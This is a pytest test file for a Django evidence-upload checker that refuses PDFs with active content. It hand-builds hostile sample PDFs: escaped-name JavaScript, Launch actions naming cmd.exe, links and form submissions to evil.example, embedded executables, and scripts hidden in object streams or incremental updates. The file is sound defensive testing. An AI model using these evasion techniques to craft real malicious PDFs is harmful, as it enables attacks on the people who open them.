"""PDF evidence is parsed and every object inspected: no scripts, launches, attached
files, links or form submissions, however the file spells or hides them."""

from __future__ import annotations

import io
import re
import time
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from pypdf import PdfWriter

from incidents.evidence import checks as evidence
from incidents.evidence.checks import check_upload
from incidents.models import Evidence

# The factories' concerns are about private use: a file needs its reason (issue 19).
RELEVANT = "It names the agency and a client."

PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"

SCRIPTS = "This PDF has scripts, so it cannot be accepted as evidence."
LAUNCH = "This PDF has actions that start programs, so it cannot be accepted as evidence."
ATTACHED = "This PDF has attached files, so it cannot be accepted as evidence."
LINKS = "This PDF has links that open web pages or other files, so it cannot be accepted"
FORMS = "This PDF has form actions that send or fetch data, so it cannot be accepted"
MEDIA = "This PDF has embedded media, so it cannot be accepted as evidence."
XFA = "This PDF has an interactive (XFA) form, so it cannot be accepted as evidence."
UNREADABLE = "This PDF could not be read. It may be damaged"
ENCRYPTED = "This PDF is protected with a password or encrypted"


def pdf(objects: dict[int, bytes], *, update: dict[int, bytes] | None = None) -> bytes:
    """A PDF written by hand with a classic cross-reference table, object 1 the
    catalogue; `update` is appended as an incremental update, as editors save one."""
    body = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets: dict[int, int] = {}

    def section(items: dict[int, bytes], prev: int | None) -> int:
        nonlocal body
        for number, content in items.items():
            offsets[number] = len(body)
            body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        start = len(body)
        size = max(offsets) + 1
        body += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            body += (
                b"%010d 00000 n \n" % offsets[number]
                if number in offsets
                else (b"0000000000 65535 f \n")
            )
        previous = b" /Prev %d" % prev if prev is not None else b""
        body += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
            size,
            previous,
            start,
        )
        return start

    first = section(objects, None)
    if update:
        section(update, first)
    return body


def pdf_with_object_stream(plain: dict[int, bytes], packed: dict[int, bytes]) -> bytes:
    """A PDF 1.5 file whose `packed` objects sit in a compressed object stream, listed by
    a cross-reference stream (what most PDF writers produce today)."""
    body = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    offsets: dict[int, int] = {}
    for number, content in plain.items():
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    stream_number = max(plain | packed) + 1
    header, payload = b"", b""
    for number, content in packed.items():
        header += b"%d %d " % (number, len(payload))
        payload += content + b"\n"
    data = zlib.compress(header + payload)
    offsets[stream_number] = len(body)
    body += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n"
        % (stream_number, len(packed), len(header), len(data), data)
    )
    xref_number = stream_number + 1
    offsets[xref_number] = len(body)
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in packed:
            index = list(packed).index(number)
            rows += bytes([2]) + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += b"\x00\x00\x00\x00\x00\xff\xff"
    body += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (xref_number, xref_number + 1, len(rows), rows, offsets[xref_number])
    )
    return body


def catalog(extra: bytes = b"") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


def page(extra: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + extra + b" >>"


def clean_pdf() -> bytes:
    return pdf({1: catalog(), 2: PAGES, 3: PAGE})


def written_by_pypdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def refusal(content: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        check_upload(SimpleUploadedFile("evidence.pdf", content))
    return " ".join(caught.value.messages)


# --- Accepted ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "make",
    [
        clean_pdf,
        written_by_pypdf,
        # An internal link (to a page of the same document) is not active content.
        lambda: pdf(
            {
                1: catalog(b"/OpenAction [3 0 R /Fit]"),
                2: PAGES,
                3: page(
                    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                    b"/A << /S /GoTo /D [3 0 R /Fit] >> >>]"
                ),
            }
        ),
        lambda: pdf_with_object_stream({1: catalog()}, {2: PAGES, 3: PAGE}),
        # No cross-reference table at all: rebuilt by scanning, as a viewer does.
        lambda: (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
        ),
    ],
    ids=["hand-written", "pypdf", "internal-link", "object-stream", "no-xref"],
)
def test_a_plain_pdf_is_accepted(media, make):
    assert check_upload(SimpleUploadedFile("letter.pdf", make())).content_type == (
        "application/pdf"
    )


# --- Refused wherever it sits, however it is spelt ---------------------------------

# Spelt with escapes, so only a parser that decodes names sees a script.
JS = b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"

REFUSED = {
    "javascript-name-escaped": (
        pdf(
            {
                1: catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
                2: PAGES,
                3: PAGE,
            }
        ),
        SCRIPTS,
    ),
    "launch-name-escaped": (
        pdf({1: catalog(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"), 2: PAGES, 3: PAGE}),
        LAUNCH,
    ),
    "javascript-in-compressed-object-stream": (
        pdf_with_object_stream({1: catalog(b"/OpenAction 4 0 R")}, {2: PAGES, 3: PAGE, 4: JS}),
        SCRIPTS,
    ),
    "launch-in-compressed-object-stream": (
        pdf_with_object_stream(
            {1: catalog(b"/OpenAction 4 0 R")},
            {2: PAGES, 3: PAGE, 4: b"<< /S /Launch /F (cmd.exe) >>"},
        ),
        LAUNCH,
    ),
    "javascript-name-tree": (
        pdf(
            {
                1: catalog(b"/Names << /J#61vaScript 4 0 R >>"),
                2: PAGES,
                3: PAGE,
                4: b"<< /Names [(x) 5 0 R] >>",
                5: JS,
            }
        ),
        SCRIPTS,
    ),
    "page-additional-action": (
        pdf({1: catalog(), 2: PAGES, 3: page(b"/AA << /O 4 0 R >>"), 4: JS}),
        SCRIPTS,
    ),
    "uri-link-annotation": (
        pdf(
            {
                1: catalog(),
                2: PAGES,
                3: page(
                    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                    b"/A << /S /#55RI /URI (https://evil.example/) >> >>]"
                ),
            }
        ),
        LINKS,
    ),
    "uri-open-action": (
        pdf(
            {
                1: catalog(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
                2: PAGES,
                3: PAGE,
            }
        ),
        LINKS,
    ),
    "remote-go-to": (
        pdf(
            {
                1: catalog(b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
                2: PAGES,
                3: PAGE,
            }
        ),
        LINKS,
    ),
    "embedded-go-to": (
        pdf({1: catalog(b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>"), 2: PAGES, 3: PAGE}),
        ATTACHED,
    ),
    "embedded-files-name-tree": (
        pdf({1: catalog(b"/Names << /Embedded#46iles << /Names [] >> >>"), 2: PAGES, 3: PAGE}),
        ATTACHED,
    ),
    "embedded-file-stream": (
        pdf(
            {
                1: catalog(),
                2: PAGES,
                3: PAGE,
                4: b"<< /Type /Embedded#46ile /Length 2 >>\nstream\nMZ\nendstream",
            }
        ),
        ATTACHED,
    ),
    "file-attachment-annotation": (
        pdf(
            {
                1: catalog(),
                2: PAGES,
                3: page(
                    b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
                    b"/FS (notes.txt) >>]"
                ),
            }
        ),
        ATTACHED,
    ),
    "submit-form-field-action": (
        pdf(
            {
                1: catalog(b"/AcroForm << /Fields [4 0 R] >>"),
                2: PAGES,
                3: PAGE,
                4: b"<< /FT /Tx /T (name) /AA << /K << /S /SubmitForm /F (https://evil.example/) "
                b">> >> >>",
            }
        ),
        FORMS,
    ),
    "import-data": (
        pdf({1: catalog(b"/OpenAction << /S /ImportData /F (data.fdf) >>"), 2: PAGES, 3: PAGE}),
        FORMS,
    ),
    "xfa-form": (
        pdf(
            {
                1: catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
                2: PAGES,
                3: PAGE,
                4: b"<< /Length 7 >>\nstream\n<xdp/>\nendstream",
            }
        ),
        XFA,
    ),
    "rich-media-annotation": (
        pdf(
            {
                1: catalog(),
                2: PAGES,
                3: page(b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
            }
        ),
        MEDIA,
    ),
    "javascript-added-by-incremental-update": (
        pdf(
            {1: catalog(), 2: PAGES, 3: PAGE},
            update={1: catalog(b"/OpenAction 4 0 R"), 4: b"<< /S /J#61vaScript /J#53 (x) >>"},
        ),
        SCRIPTS,
    ),
}


@pytest.mark.parametrize(("content", "message"), REFUSED.values(), ids=REFUSED.keys())
def test_active_content_is_refused_wherever_it_sits(media, content, message):
    assert message in refusal(content)


def test_a_refused_pdf_shows_the_reason_next_to_the_field_and_keeps_what_was_typed(
    client, draft_concern, reporter, media
):
    content, _ = REFUSED["javascript-in-compressed-object-stream"]
    client.force_login(reporter)

    response = client.post(
        reverse("incidents:evidence_upload", args=[draft_concern.pk]),
        {
            "file": SimpleUploadedFile("statement.pdf", content),
            "captured_url": "https://www.facebook.com/some.post/123",
            "relevance": RELEVANT,
            "post_deleted": "yes",
        },
    )

    body = response.content.decode()
    error = re.search(r'<div id="id_file_error" class="invalid-feedback">(.*?)</div>', body, re.S)
    assert response.status_code == 400
    assert error and escape(SCRIPTS) in error.group(1)
    assert 'value="https://www.facebook.com/some.post/123"' in body
    assert re.search(r'value="yes"[^>]*checked', body)
    assert not Evidence.objects.exists()
    assert not list(media.rglob("*.pdf")) and not list((media / "staging").glob("*"))


# --- Unreadable, encrypted, too big to check ---------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\nnothing else at all",
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",  # no document catalogue
        pdf({1: catalog(), 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),  # a loop
        b"%PDF-1.4\n1 0 obj" + b"[" * 5000 + b"]" * 5000 + b"endobj\ntrailer<</Root 1 0 R>>\n",
    ],
    ids=["garbage", "no-catalogue", "page-tree-loop", "deep-nesting"],
)
def test_a_pdf_that_cannot_be_parsed_is_refused(media, content):
    assert UNREADABLE in refusal(content)


def test_an_encrypted_pdf_is_refused(media):
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)

    assert ENCRYPTED in refusal(buffer.getvalue())


def test_a_pdf_with_more_objects_than_the_limit_is_refused_quickly(media, monkeypatch):
    monkeypatch.setattr(evidence, "PDF_MAX_OBJECTS", 1_000)
    filler = {number: b"<< /N %d >>" % number for number in range(4, 1_500)}
    content = pdf({1: catalog(), 2: PAGES, 3: PAGE, **filler})

    started = time.perf_counter()
    message = refusal(content)

    assert "This PDF is too long or complex to check" in message
    assert time.perf_counter() - started < 1.0


def test_a_pdf_with_more_pages_than_the_limit_is_refused(media, monkeypatch):
    monkeypatch.setattr(evidence, "PDF_MAX_PAGES", 3)
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 8))
    pages = dict.fromkeys(range(3, 8), PAGE)
    content = pdf({1: catalog(), 2: b"<< /Type /Pages /Kids [%s] /Count 5 >>" % kids, **pages})

    assert "the limit is 3 pages" in refusal(content)


def test_a_pdf_whose_objects_hold_too_much_to_walk_is_refused(media, monkeypatch):
    monkeypatch.setattr(evidence, "PDF_MAX_WALKED", 500)
    nested = b"<< /Items [" + b"[<< /A 1 >>] " * 600 + b"] >>"
    content = pdf({1: catalog(b"/Extra 4 0 R"), 2: PAGES, 3: PAGE, 4: nested})

    assert "This PDF is too long or complex to check" in refusal(content)
